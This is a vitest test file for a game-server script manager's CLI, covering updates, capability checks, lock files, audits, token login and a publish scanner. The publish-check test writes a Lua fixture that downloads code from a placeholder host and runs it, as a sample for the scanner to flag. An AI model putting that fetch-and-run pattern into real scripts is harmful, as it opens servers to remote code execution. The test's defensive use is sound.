import { cp, readdir, rm, stat } from 'node:fs/promises'

import { expect, test } from 'vitest'

import { createGameServer, publishScript, resourceFiles, startHub } from '#test-support/game-server.ts'
import { configLua, createOutdatedServer, setCooldown } from '#test-support/outdated-server.ts'

const app = await startHub()
const author = await app.createUser('scripts.upload', 'scripts.download')

const outdatedServer = (...files: [second: Record<string, string>, first?: Record<string, string>]) =>
  createOutdatedServer(app, author, ...files)
const publishQuay = async (name: string) => publishScript(app, author, name, resourceFiles('quay_lib'))

test('outdated shows the changelog and exits with 1; update installs it and keeps nothing back', async () => {
  const { server, id, file } = await outdatedServer({ 'new.lua': "print('new')\n" })

  const outdated = await server.run('outdated')
  const update = await server.run('update', '--yes')

  expect(outdated).toMatchObject({
    code: 1,
    stdout: expect.stringMatching(/1\.0\.0 → 1\.1\.0[^]*Changes of 1\.1\.0/),
  })
  expect([update.code, update.stderr]).toEqual([0, ''])
  expect(await server.read(file('new.lua'))).toBe("print('new')\n")
  expect(JSON.parse(await server.read('scripthaven.lock')).scripts[id].version).toBe('1.1.0')
  expect(await server.run('outdated')).toMatchObject({ code: 0 })
})

test('a version younger than the cooldown is skipped', async () => {
  const { server } = await outdatedServer({ 'new.lua': 'new' })
  await setCooldown(server, '3d')

  for (const command of [['outdated'], ['update', '--yes']])
    expect(await server.run(...command)).toMatchObject({
      code: 0,
      stdout: expect.stringMatching(
        /^Waiting for the cooldown of 3d: Pier \d+ 1\.1\.0 of \d{4}-\d\d-\d\d \(script \d+\)\.\n$/,
      ),
    })
})

test('a version that can do more than before needs an answer of its own', async () => {
  const { server, id } = await outdatedServer({
    'server.lua': "PerformHttpRequest('https://a.example', print)\n",
  })

  const refused = await server.run('update', '--yes')

  expect(refused).toMatchObject({ code: 3, stderr: expect.stringContaining('can do more than before') })
  expect(JSON.parse(await server.read('scripthaven.lock')).scripts[id].version).toBe('1.0.0')
  expect(await server.run('update', '--yes', '--accept-capabilities')).toMatchObject({ code: 0, stderr: '' })
})

test('the lock alone installs the same bytes on another server', async () => {
  const { server, file } = await outdatedServer({})
  const other = await createGameServer({ token: author.token })
  for (const name of ['scripthaven.json', 'scripthaven.lock'])
    await other.write(name, await server.read(name))

  expect(await other.run('sync', '--frozen')).toMatchObject({ code: 0, stderr: '' })
  for (const name of ['scripthaven.lock', 'scripthaven.cfg', file('server.lua')])
    expect(await other.read(name)).toBe(await server.read(name))
})

test('a script that comes along with a new version is shown, and its capabilities need an answer', async () => {
  const library = await publishScript(
    app,
    author,
    'Courier',
    resourceFiles('courier', { files: { 'server.lua': "PerformHttpRequest('https://a.example', print)\n" } }),
  )
  const manifest = "fx_version 'cerulean'\ngame 'gta5'\nserver_script 'server.lua'\ndependency 'courier'\n"
  const { server, id } = await outdatedServer({ 'fxmanifest.lua': manifest })
  const before = await server.read('scripthaven.lock')

  expect(await server.run('outdated')).toMatchObject({
    code: 1,
    stdout: expect.stringContaining(`Courier 1.0.0 (script ${library.id}), not installed yet`),
  })
  expect(await server.run('update', '--yes')).toMatchObject({
    code: 3,
    stderr: expect.stringContaining('Courier would be new on this server. --yes does not accept this'),
  })
  expect(await server.read('scripthaven.lock')).toBe(before)
  expect(await server.run('update', '--yes', '--accept-capabilities')).toMatchObject({ code: 0 })
  expect(Object.keys(JSON.parse(await server.read('scripthaven.lock')).scripts)).toEqual(
    [library.id, id].map(String),
  )
})

test('audit names changed, added and missing files, and a version that was withdrawn', async () => {
  const { server, versionId, name, file } = await outdatedServer({})
  expect(await server.run('audit')).toMatchObject({ code: 0 })
  await server.write(file('config.lua'), 'mine')
  await server.write(file('extra.lua'), 'mine')
  await rm(server.path(file('server.lua')))
  await app.request(author, 'POST', `/api/versions/${versionId}/withdraw`, {
    kind: 'security',
    reason: 'It leaks the keys of the server.',
  })

  const { code, stdout } = await server.run('audit')
  const json = JSON.parse((await server.run('audit', '--json')).stdout)

  expect(code).toBe(1)
  expect(stdout).toMatch(/high .*was recalled: [^]*It leaks the keys[^]*Use 1\.1\.0 instead/)
  expect(json).toEqual(
    expect.arrayContaining([
      expect.objectContaining({ what: 'missing', text: expect.stringContaining(`${name}/server.lua`) }),
      expect.objectContaining({ what: 'changed', text: expect.stringContaining(`${name}/config.lua`) }),
      expect.objectContaining({ what: 'added', text: expect.stringContaining(`${name}/extra.lua`) }),
    ]),
  )
})

test('audit --fail-on high ends with 1 for a file on the blocklist of the hub', async () => {
  const { server, name } = await outdatedServer({})
  const owner = await app.createOwner()
  const { files } = JSON.parse(await server.read('scripthaven/installed.json')).resources[name]
  const entry = {
    kind: 'file',
    value: files['server.lua'].sha256.slice(0, 32),
    reason: 'Seen on infected servers',
  }
  expect((await app.request(owner, 'POST', '/api/moderation/blocklist', entry)).status).toBe(201)

  const { code, stdout } = await server.run('audit', '--fail-on', 'high')

  expect(code).toBe(1)
  expect(stdout).toMatch(/high .*server\.lua is on the blocklist/)
})

test('login stores a token that the hub accepts with mode 600, and no other', async () => {
  const server = await createGameServer()
  await server.run('init', app.url)
  const member = await app.registerUser('harbourmaster')
  const draft = { name: 'Server', scopes: ['read', 'download'], scripts: 'all', days: 30 }
  const { body } = await app.request(member, 'POST', '/api/account/tokens', draft)

  const wrong = await server.runWithInput(`${String(body.token).slice(0, -1)}!`, 'login', '--with-token')
  const stored = await server.runWithInput(body.token, 'login', '--with-token')

  expect(wrong).toMatchObject({ code: 2, stderr: expect.stringContaining('not an access token') })
  expect(stored).toMatchObject({
    code: 0,
    stdout: expect.stringMatching(/^Stored in .*: harbourmaster, scopes read, download, until/),
  })
  expect((await stat(server.path('home/scripthaven/tokens.json'))).mode & 0o777).toBe(0o600)
})

test('sql lists a file with its text until it is confirmed, and again when it has changed', async () => {
  const { server } = await outdatedServer({ 'sql/pier.sql': 'create table pier (id bigint);\n' })

  expect((await server.run('sql')).stdout).toMatch(
    /-- new: pier\d+\/sql\/pier\.sql, of Pier \d+\ncreate table pier \(id int\);/,
  )
  await server.run('sql', '--confirm')
  expect((await server.run('sql')).stdout).toBe('No SQL file is new or changed.\n')
  expect((await server.run('update', '--yes')).stdout).toMatch(
    /\n1 SQL file for your database: ".* sql" shows it\.\n/,
  )
  expect((await server.run('sql')).stdout).toMatch(/-- changed: [^]*id bigint/)
})

test('list, why, export and remove know what needs what', async () => {
  const library = await publishScript(app, author, 'Pier library', resourceFiles('pier_lib'))
  const user = await publishScript(
    app,
    author,
    'Pier user',
    resourceFiles('pier_user', { needs: ['pier_lib', 'oxmysql'] }),
    { license: 'MIT' },
  )
  const server = await createGameServer({ token: author.token })
  await server.run('init', app.url)
  await server.run('add', String(user.id), '--yes')

  const why = await server.run('why', 'pier_lib')
  const bom = JSON.parse((await server.run('export')).stdout)
  const csv = await server.run('export', '--format', 'csv')

  expect((await server.run('list')).stdout).toMatch(
    /Pier library 1\.0\.0 .*\(needed by others\)\n.*Pier user/,
  )
  expect(why.stdout).toMatch(/Pier library .* ← Pier user .* ← scripthaven\.json/)
  expect((await server.run('why', 'oxmysql')).stdout).toMatch(/oxmysql ← Pier user/)
  expect(bom).toMatchObject({
    bomFormat: 'CycloneDX',
    specVersion: '1.6',
    components: [{ name: 'Pier library' }, { name: 'Pier user', licenses: [{ license: { id: 'MIT' } }] }],
  })
  expect(csv.stdout.split('\r\n')).toHaveLength(4)
  expect(await server.run('remove', 'pier_lib')).toMatchObject({
    code: 2,
    stderr: expect.stringContaining('Pier user needs it'),
  })
  expect(await server.run('remove', String(user.id))).toMatchObject({ code: 0 })
  expect(await readdir(server.installed())).toEqual([])
  expect(JSON.parse(await server.read('scripthaven.lock')).scripts).toEqual({})
  expect(await server.run('add', String(library.id), '--yes')).toMatchObject({ code: 0 })
})

test('update and sync ask which new script provides a resource, and write it down', async () => {
  const [first, second] = [await publishQuay('Quay one'), await publishQuay('Quay two')]
  const manifest = "fx_version 'cerulean'\ngame 'gta5'\nserver_script 'server.lua'\ndependency 'quay_lib'\n"
  const { server, id } = await outdatedServer({ 'fxmanifest.lua': manifest })
  const before = await server.read('scripthaven.json')
  const providers = async () => JSON.parse(await server.read('scripthaven.json')).providers

  expect(await server.run('update')).toMatchObject({
    code: 2,
    stdout: expect.stringMatching(
      /Several scripts provide quay_lib:\n {2}1\) Quay one .*\n {2}2\) Quay two /,
    ),
    stderr: expect.stringContaining('Use --yes to take the most downloaded one'),
  })
  expect(await server.read('scripthaven.json')).toBe(before)
  expect(await server.run('update', '--yes')).toMatchObject({
    code: 0,
    stdout: expect.stringMatching(/Quay one by .* is taken\. Name another one in "providers"/),
  })
  expect(await providers()).toEqual({ quay_lib: first.id })

  const project = JSON.parse(before)
  await server.write('scripthaven.json', JSON.stringify({ ...project, providers: { quay_lib: second.id } }))
  await rm(server.path('scripthaven.lock'))
  expect(await server.run('sync')).toMatchObject({ code: 0 })
  expect(Object.keys(JSON.parse(await server.read('scripthaven.lock')).scripts)).toEqual(
    [second.id, id].map(String),
  )
  await server.write('scripthaven.json', before)
  await rm(server.path('scripthaven.lock'))
  expect(await server.run('sync')).toMatchObject({
    code: 0,
    stdout: expect.stringContaining('Quay one by'),
  })
  expect(await providers()).toEqual({ quay_lib: first.id })
})

test('init --from-disk recognises installed resources with changed files, and sync takes the changes over', async () => {
  const { server: source, id, name, file } = await outdatedServer({ 'new.lua': 'new' })
  const server = await createGameServer({ token: author.token })
  await cp(source.installed(name), server.path('resources/[old]', name), { recursive: true })
  await server.write(`resources/[old]/${name}/config.lua`, configLua(77))

  const init = await server.run('init', app.url, '--from-disk')
  await cp(server.path('resources/[old]'), server.path('resources/[older]'), { recursive: true })
  const sync = await server.run('sync')

  expect([init.code, init.stderr, init.stdout]).toEqual([
    0,
    '',
    expect.stringMatching(new RegExp(`${id} Pier \\d+ 1\\.0\\.0`)),
  ])
  expect([sync.code, sync.stderr]).toEqual([
    0,
    [
      `Warning: Several folders have the resource ${name}. Your changes are taken from the last of these:`,
      `  resources/[old]/${name}`,
      `  resources/[older]/${name}`,
      'Warning: The server has resources of resources/[scripthaven] in other folders, too. It starts one of each name: remove the other.',
      `  resources/[old]/${name}`,
      `  resources/[older]/${name}\n`,
    ].join('\n'),
  ])
  expect(await server.read(file('config.lua'))).toBe(configLua(77))
})

test('publish --check fails on a finding, and not without one', async () => {
  const { server, id, name } = await outdatedServer({})
  const manifest = `fx_version 'cerulean'\ngame 'gta5'\nscripthaven '${id}'\nversion '3.0.0'\nserver_script 'server.lua'\n`
  await server.write(`work/${name}/fxmanifest.lua`, manifest)
  await server.write(
    `work/${name}/server.lua`,
    "PerformHttpRequest('https://a.example', function(_, text)\n  load(text)()\nend)\n",
  )

  expect(await server.run('publish', `work/${name}`, '--check', '--fail-on', 'high')).toMatchObject({
    code: 1,
    stdout: expect.stringContaining('runs-downloaded-code'),
  })
  await server.write(`work/${name}/server.lua`, "print('third')\n")
  expect(await server.run('publish', `work/${name}`, '--check', '--fail-on', 'high')).toMatchObject({
    code: 0,
  })
})
